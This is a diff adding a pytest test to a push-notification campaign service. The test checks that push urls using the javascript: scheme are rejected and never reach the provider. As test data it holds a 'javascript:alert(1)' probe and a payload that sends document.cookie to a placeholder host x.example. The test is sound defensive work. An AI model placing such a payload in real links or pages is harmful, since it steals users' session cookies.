@@ -530,3 +530,38 @@ async def test_a_carrier_stop_of_a_number_the_user_moved_from_stops_its_holder_n
             for u, c in (("t1", "code"), ("t1", "sms"), ("t2", "code"))]
     assert [(m.delivered, m.reason) for m in sent] == [(True, ""), (True, ""), (False, "no_consent")]
     assert provider.requests[-1]["json"]["to"] == "+447700900999"
+
+
+async def test_a_push_url_that_could_run_script_is_refused_and_never_sent(
+        provider, campaigns, profiles, messaging):
+    """A push `url` is the link the app opens on a tap (often in a web view): held to the rule
+    of an item's links. Before, `javascript:` went to the provider as the message's url."""
+    def spec(cid, url):
+        return cpb.CreateCampaignRequest(spec=cpb.CampaignSpec(
+            campaign_id=cid, channel="push", policy="fixed",
+            variants=[cpb.Variant(id="p", content={"title": "New", "body": "b", "url": url})]))
+    with pytest.raises(grpc.RpcError) as err:
+        await campaigns.CreateCampaign(spec("static", " JavaScript:alert(1)"))
+    assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT
+    assert "variants[0].content['url']" in err.value.details() and "'JavaScript'" in err.value.details()
+    await campaigns.CreateCampaign(spec("link", "{{ profile.link }}"))
+    for user, link in (("bad", "javascript:fetch('//x.example/'+document.cookie)"),
+                       ("good", "myapp://item/7")):
+        await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
+            user_id=user, attributes={"push_token": f"tok-{user}", "link": link}))
+    with pytest.raises(grpc.RpcError) as err:
+        await messaging.ComposeMessage(compose("bad", "link"))
+    assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION
+    assert "part 'url'" in err.value.details() and "'javascript'" in err.value.details()
+    assert "cookie" not in err.value.details()  # the user's data is not echoed
+    assert provider.requests == []
+    assert (await messaging.ComposeMessage(compose("good", "link"))).delivered
+    assert [r["json"]["parts"]["url"] for r in provider.requests] == ["myapp://item/7"]
+    started = await messaging.SendCampaign(mpb.SendCampaignRequest(
+        campaign_id="link", user_ids=["bad"], rate_per_second={"push": 100}))
+    done = await until_done(messaging, started.send_id)
+    assert (done.sent, done.failed) == (0, 1)
+    [reason] = done.failed_by_reason
+    assert reason.startswith("BadLink: variant 'p', part 'url'") and "cookie" not in reason
+    assert len(provider.requests) == 1
+    assert [e.user_id for e in await sent_events(profiles, "push_sent")] == ["good"]
